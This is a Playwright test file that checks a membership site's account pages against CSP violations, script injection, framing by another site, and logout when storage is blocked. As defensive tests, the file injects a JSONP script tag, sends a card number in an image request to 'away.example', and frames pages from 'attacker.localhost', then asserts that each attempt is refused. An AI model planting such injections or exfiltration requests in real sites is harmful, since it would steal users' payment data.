/**
 * Tests what may run on account pages, and what may leave them, in a real browser with the real
 * card SDK (T38).
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { ACCOUNT_PATHS } from '../../src/domain/addresses/paths.ts';
import { expect, test } from './fixtures.ts';
import { agree, fillCard, GATED, payButton, toPayment } from './reader.ts';

/** The violations that the browser has reported since the page was loaded. */
const refused = ( page: Page ): Promise< string[] > =>
	page.evaluate( () => ( window as never as { refused: string[] } ).refused );

const ruleOf = ( line: string ) => line.split( ' ' )[ 0 ];

const watch = ( page: Page ) =>
	page.addInitScript( () => {
		const list: string[] = [];
		Object.assign( window, { refused: list } );
		document.addEventListener( 'securitypolicyviolation', ( event ) =>
			list.push( `${ event.effectiveDirective } ${ event.blockedURI }` )
		);
	} );

// Proves vendor-14.
test( 'no account page requests anything that its policy forbids', async ( { page, enter } ) => {
	await watch( page );
	await enter( 'monthly' );
	for ( const path of Object.values( ACCOUNT_PATHS ) ) {
		await page.goto( path );
		await expect( page.getByRole( 'heading', { level: 1 } ) ).toBeVisible();
		expect( await refused( page ), path ).toEqual( [] );
	}
} );

// Proves payment-9, vendor-11.
test( 'a card is typed and pays under the same policy', async ( { page, enter } ) => {
	await watch( page );
	await enter( 'member' );
	await toPayment( page );
	await fillCard( page );
	await agree( page );
	await payButton( page ).click();
	await expect( page.getByRole( 'heading', { name: 'You are a member' } ) ).toBeVisible();
	expect( await refused( page ) ).toEqual( [] );
} );

test( 'a planted script of the site’s JSONP, a script that is text, and a picture of another host are refused', async ( {
	page,
	silence,
} ) => {
	silence.allow( /Content Security Policy|TrustedScript|TrustedHTML/i );
	await watch( page );
	await page.addInitScript( () => {
		const ran = () => Object.assign( window, { planted: true } );
		Object.assign( window, { ran } );
	} );
	// The test injects a script into the HTML.
	await page.route( '**/account/login', async ( route ) => {
		const answer = await route.fetch();
		await route.fulfill( {
			response: answer,
			body: ( await answer.text() ).replace(
				'</body>',
				'<script src="/wp-json/?_jsonp=ran"></script></body>'
			),
		} );
	} );
	await page.goto( '/account/login' );
	await expect( page.getByLabel( 'Email' ) ).toBeVisible();
	await page.evaluate( () => {
		const picture = new Image();
		picture.src = 'https://away.example/?card=4111';
		document.body.append( picture );
		try {
			document.body.insertAdjacentHTML( 'beforeend', '<b>markup</b>' );
		} catch {}
		try {
			document.createElement( 'script' ).text = 'ran()';
		} catch {}
	} );
	await expect
		.poll( async () => ( await refused( page ) ).map( ruleOf ).sort() )
		.toEqual(
			expect.arrayContaining( [ 'img-src', 'require-trusted-types-for', 'script-src-elem' ] )
		);
	expect( await page.evaluate( () => 'planted' in window ) ).toBe( false );
	await expect( page.locator( 'b', { hasText: 'markup' } ) ).toHaveCount( 0 );
} );

/**
 * Opens a page of another site with this address in a frame; the other page has a real server,
 * because browsers require one.
 */
async function frameElsewhere( page: Page, address: string, look: () => Promise< void > ) {
	const server = createServer( ( _request, response ) => {
		response.setHeader( 'content-type', 'text/html' );
		response.end(
			`<link rel="icon" href="data:,"><iframe id="story" src="${ address }" width="800" height="600"></iframe>`
		);
	} );
	await new Promise< void >( ( done ) => server.listen( 0, '127.0.0.1', done ) );
	const { port } = server.address() as AddressInfo;
	try {
		await page.goto( `http://attacker.localhost:${ port }/` );
		await look();
	} finally {
		server.close();
	}
}

const storyIn = ( page: Page ) => page.frameLocator( '#story' );

test( 'a members-only story does not show in a frame of another site, and an open page does', async ( {
	page,
	baseURL,
	silence,
} ) => {
	silence.allow( /frame-ancestors|Refused to (frame|display)|Framing/i );
	await frameElsewhere( page, `${ baseURL }/`, () =>
		expect( storyIn( page ).getByRole( 'main' ) ).toBeVisible()
	);
	await frameElsewhere( page, `${ baseURL }${ GATED }`, async () => {
		await expect
			.poll( () => page.frames().map( ( frame ) => frame.url() ) )
			.toContain( 'chrome-error://chromewebdata/' );
		await expect( storyIn( page ).getByRole( 'main' ) ).toHaveCount( 0 );
	} );
} );

test( 'an open page in a frame of another site opens no log-in in place: a press leads to the account page in the whole window', async ( {
	page,
	baseURL,
} ) => {
	await frameElsewhere( page, `${ baseURL }/`, async () => {
		await storyIn( page ).getByRole( 'button', { name: 'Log In' } ).first().click();
		await expect( page ).toHaveURL( `${ baseURL }/account/login` );
	} );
	await expect( page.getByLabel( 'Email' ) ).toBeVisible();
} );

// Proves cookie-12.
test( 'with blocked storage a second tab shows logged-out when it is looked at', async ( {
	context,
	page,
	enter,
} ) => {
	await context.addInitScript( () => {
		for ( const name of [ 'localStorage', 'sessionStorage' ] ) {
			Object.defineProperty( window, name, {
				get() {
					throw new DOMException( 'blocked', 'SecurityError' );
				},
			} );
		}
	} );
	await enter( 'monthly' );
	await page.goto( '/account/settings' );
	await expect( page.getByRole( 'heading', { level: 1 } ) ).toHaveText( 'Profile' );
	const other = await context.newPage();
	await other.goto( '/account/settings' );
	await expect( other.getByRole( 'heading', { level: 1 } ) ).toHaveText( 'Profile' );
	await other.getByRole( 'banner' ).getByRole( 'button', { name: 'Account' } ).click();
	await other.getByRole( 'list' ).getByRole( 'button', { name: 'Log Out' } ).click();
	await expect( other ).toHaveURL( /\/account\/login/ );
	await page.bringToFront();
	// All headless tabs count as visible, so the test fires the event that the browser fires for a
	// tab in view.
	await page.evaluate( () =>
		document.dispatchEvent( new Event( 'visibilitychange', { bubbles: true } ) )
	);
	await expect( page ).toHaveURL( /\/account\/login/ );
	await expect( page.getByText( '@readers.example' ) ).toHaveCount( 0 );
} );
